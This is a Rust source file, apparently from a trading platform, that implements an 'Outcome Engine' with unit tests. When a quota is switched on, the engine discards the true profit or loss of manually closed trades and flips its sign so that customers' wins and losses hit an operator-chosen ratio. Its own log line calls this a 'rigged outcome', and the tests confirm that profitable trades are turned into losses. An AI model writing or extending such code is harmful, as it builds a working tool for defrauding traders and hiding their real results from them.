//! Outcome Engine
//!
//! Decides the final P&L of manually closed trades against a win/loss
//! quota. When the quota is inactive the natural P&L passes through
//! untouched; when active, the engine keeps the natural magnitude but
//! picks the sign so that wins and losses land on the configured ratio.
//!
//! Decision and counter update happen under one lock so concurrent
//! closes cannot both consume the same quota slot.

use crate::services::store::SqliteStore;
use crate::types::money::round_cash;
use crate::types::OutcomeQuota;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::{Arc, Mutex};
use tracing::{debug, info};

/// When the natural P&L is exactly zero there is no magnitude to flip,
/// so a forced outcome moves by this fraction of the committed margin.
const ZERO_PNL_FRACTION: f64 = 0.10;

pub struct OutcomeEngine {
    store: Arc<SqliteStore>,
    rng: Mutex<StdRng>,
}

impl OutcomeEngine {
    pub fn new(store: Arc<SqliteStore>) -> Self {
        Self {
            store,
            rng: Mutex::new(StdRng::from_entropy()),
        }
    }

    /// Deterministic RNG for tests.
    pub fn with_seed(store: Arc<SqliteStore>, seed: u64) -> Self {
        Self {
            store,
            rng: Mutex::new(StdRng::seed_from_u64(seed)),
        }
    }

    /// Decide the final P&L for a manual close and consume a quota slot.
    ///
    /// Counters roll over to (0, 0) once a full cycle of trades has been
    /// decided.
    pub fn decide_and_record(
        &self,
        natural_pnl: f64,
        amount: f64,
    ) -> Result<f64, rusqlite::Error> {
        // rng mutex doubles as the decision lock
        let mut rng = self.rng.lock().unwrap();

        let mut quota = self.store.get_outcome_quota()?;
        if !quota.active {
            return Ok(natural_pnl);
        }

        let magnitude = if natural_pnl == 0.0 {
            round_cash(amount * ZERO_PNL_FRACTION)
        } else {
            natural_pnl.abs()
        };

        let win = should_win(&quota, &mut rng);
        let final_pnl = if win { magnitude } else { -magnitude };

        if win {
            quota.current_wins += 1;
        } else {
            quota.current_losses += 1;
        }
        if quota.current_wins + quota.current_losses >= quota.total_trades {
            info!(
                wins = quota.current_wins,
                losses = quota.current_losses,
                "outcome cycle complete, resetting counters"
            );
            quota.current_wins = 0;
            quota.current_losses = 0;
        }
        self.store
            .set_outcome_counters(quota.current_wins, quota.current_losses)?;

        debug!(natural_pnl, final_pnl, win, "rigged outcome decided");
        Ok(final_pnl)
    }
}

fn should_win(quota: &OutcomeQuota, rng: &mut StdRng) -> bool {
    let remaining_wins = quota.remaining_wins();
    let remaining_losses = quota.remaining_losses();
    let remaining = remaining_wins + remaining_losses;

    if remaining <= 0 {
        // quota exhausted without a reset, fall back to a coin flip
        return rng.gen_bool(0.5);
    }
    if remaining_wins <= 0 {
        return false;
    }
    if remaining_losses <= 0 {
        return true;
    }
    rng.gen_bool(remaining_wins as f64 / remaining as f64)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine_with(quota: OutcomeQuota, seed: u64) -> OutcomeEngine {
        let store = Arc::new(SqliteStore::new_in_memory().unwrap());
        store.update_outcome_quota(&quota).unwrap();
        OutcomeEngine::with_seed(store, seed)
    }

    #[test]
    fn inactive_quota_passes_natural_pnl_through() {
        let engine = engine_with(OutcomeQuota::default(), 1);
        assert_eq!(engine.decide_and_record(17.5, 200.0).unwrap(), 17.5);
        assert_eq!(engine.decide_and_record(-3.0, 200.0).unwrap(), -3.0);
        // counters untouched
        let quota = engine.store.get_outcome_quota().unwrap();
        assert_eq!(quota.current_wins + quota.current_losses, 0);
    }

    #[test]
    fn exhausted_wins_forces_loss() {
        let quota = OutcomeQuota {
            total_trades: 10,
            win_trades: 3,
            loss_trades: 7,
            current_wins: 3,
            current_losses: 0,
            active: true,
            ..Default::default()
        };
        let engine = engine_with(quota, 1);
        assert_eq!(engine.decide_and_record(25.0, 200.0).unwrap(), -25.0);
    }

    #[test]
    fn exhausted_losses_forces_win() {
        let quota = OutcomeQuota {
            total_trades: 10,
            win_trades: 3,
            loss_trades: 7,
            current_wins: 0,
            current_losses: 7,
            active: true,
            ..Default::default()
        };
        let engine = engine_with(quota, 1);
        assert_eq!(engine.decide_and_record(-25.0, 200.0).unwrap(), 25.0);
    }

    #[test]
    fn zero_pnl_falls_back_to_margin_fraction() {
        let quota = OutcomeQuota {
            total_trades: 10,
            win_trades: 10,
            loss_trades: 0,
            current_wins: 0,
            current_losses: 0,
            active: true,
            ..Default::default()
        };
        let engine = engine_with(quota, 1);
        assert_eq!(engine.decide_and_record(0.0, 200.0).unwrap(), 20.0);
    }

    #[test]
    fn full_cycle_matches_quota_and_resets() {
        let quota = OutcomeQuota {
            total_trades: 10,
            win_trades: 3,
            loss_trades: 7,
            current_wins: 0,
            current_losses: 0,
            active: true,
            ..Default::default()
        };
        let engine = engine_with(quota, 42);

        let mut wins = 0;
        let mut losses = 0;
        for _ in 0..10 {
            let pnl = engine.decide_and_record(10.0, 200.0).unwrap();
            if pnl > 0.0 {
                wins += 1;
            } else {
                losses += 1;
            }
        }
        assert_eq!(wins, 3);
        assert_eq!(losses, 7);

        // counters rolled over for the next cycle
        let quota = engine.store.get_outcome_quota().unwrap();
        assert_eq!(quota.current_wins, 0);
        assert_eq!(quota.current_losses, 0);
    }
}
